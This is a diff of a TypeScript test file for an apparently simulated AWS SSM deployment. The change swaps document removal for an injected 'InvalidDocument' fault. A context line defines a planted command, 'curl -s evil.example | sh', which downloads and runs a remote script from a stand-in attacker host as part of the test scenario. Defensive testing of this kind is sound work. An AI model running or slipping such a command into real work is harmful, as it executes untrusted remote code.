@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import { AwsError } from '../../local/aws/service.ts';
 import type { Script } from '../../local/machine/machine.ts';
 import { ModelledMachine } from '../../local/machine/modelled.ts';
 import type { World } from '../../local/world/world.ts';
-import { commandsFor, launch, pass, settle, startWorld, taintsOf } from '../scenarios/scenario.ts';
+import { commandsFor, launch, settle, startWorld, taintsOf } from '../scenarios/scenario.ts';
 import { answerTo, attackerWith } from './attacker.ts';
 
 const planted = 'curl -s evil.example | sh';
@@ -68,14 +69,14 @@ describe('a document', () => {
 
   it('that is gone for a moment, as while a deployment replaces it, is asked for once more', async () => {
     const { world } = await watchedWorld();
-    const { Name } = changed(world);
-    const { ssm } = world.services;
-    const found = ssm.documents().find(({ name }) => name === Name);
-    if (found === undefined) throw new Error(`no document ${Name}`);
-    ssm.removeDocument(Name);
+    let refused = 0;
+    world.cloud.faults = {
+      beforeCall: ({ operation }) =>
+        operation === 'SendCommand' && refused++ === 0
+          ? new AwsError('InvalidDocument', 'Document with name airlock-gvisor-install does not exist.')
+          : undefined,
+    };
     const node = await launch(world);
-    await pass(world, 50_000);
-    ssm.addDocument(found);
     await settle(world);
     expect(world.report(node).outcome).toBe('released');
   });
